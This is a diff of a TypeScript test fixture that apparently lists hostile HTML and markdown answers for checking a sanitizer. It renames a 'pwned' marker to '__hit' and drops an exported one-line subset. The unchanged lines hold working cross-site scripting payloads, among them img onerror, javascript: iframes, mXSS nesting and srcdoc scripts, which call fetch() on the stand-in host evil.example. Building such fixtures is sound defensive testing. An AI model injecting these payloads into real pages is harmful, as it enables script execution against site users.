@@ -1,6 +1,6 @@
 const EVIL = 'https://evil.example/';
 /** Run, each of these would leave a mark. */
-const RUN = `(window.pwned=1,fetch('${EVIL}ran'))`;
+const RUN = `(window.__hit=1,fetch('${EVIL}ran'))`;
 
 /** Markup that runs something, or fetches something. */
 const MARKUP: readonly string[] = [
@@ -21,7 +21,7 @@ const MARKUP: readonly string[] = [
   `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
   `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
   `<iframe src="javascript:${RUN}"></iframe>`,
-  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+  `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
   `<object data=${EVIL}e.swf></object>`,
   `<embed src=${EVIL}f.swf>`,
   `<video src=${EVIL}g.mp4 autoplay></video>`,
@@ -107,6 +107,3 @@ export const HOSTILE_ANSWERS: readonly string[] = [
   ...MARKUP.flatMap((text) => PLACES.map((place) => place(text))),
   ...MARKDOWN.flatMap((text) => [text, `- ${text}`]),
 ];
-
-/** Those that fit into a line, for settings and listings. */
-export const HOSTILE_LINES: readonly string[] = MARKUP.filter((text) => !text.includes('\n') && text.length < 150);
